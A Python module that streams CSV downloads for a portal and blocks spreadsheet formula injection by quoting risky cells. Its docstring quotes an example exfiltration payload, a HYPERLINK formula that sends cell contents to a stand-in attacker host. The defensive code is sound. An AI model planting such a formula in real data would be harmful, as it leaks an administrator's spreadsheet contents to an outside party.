"""The one way the portal writes CSV: streamed, and safe to open in a spreadsheet.

A cell that starts with ``=``, ``+``, ``-``, ``@``, a tab or a carriage return is a formula to
Excel, LibreOffice and Google Sheets (CSV or formula injection): a display name
``=HYPERLINK("https://evil.example/?"&A1)`` would run when an admin opens the download. As
OWASP recommends, such a cell is prefixed with a single quote, which spreadsheets show as
text; every other cell is written as it is. Nothing else in the portal calls ``csv.writer``
(a test keeps it that way).
"""

from __future__ import annotations

import csv
from collections.abc import Iterable, Iterator

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def neutralize(value) -> str:
    text = "" if value is None else str(value)
    return "'" + text if text.startswith(FORMULA_STARTS) else text


class _Echo:
    def write(self, value: str) -> str:
        return value


def csv_lines(header: list[str], rows: Iterable[Iterable]) -> Iterator[str]:
    """The header, then each row, as CSV lines with every cell neutralized."""
    writer = csv.writer(_Echo())
    yield writer.writerow([neutralize(cell) for cell in header])
    for row in rows:
        yield writer.writerow([neutralize(cell) for cell in row])
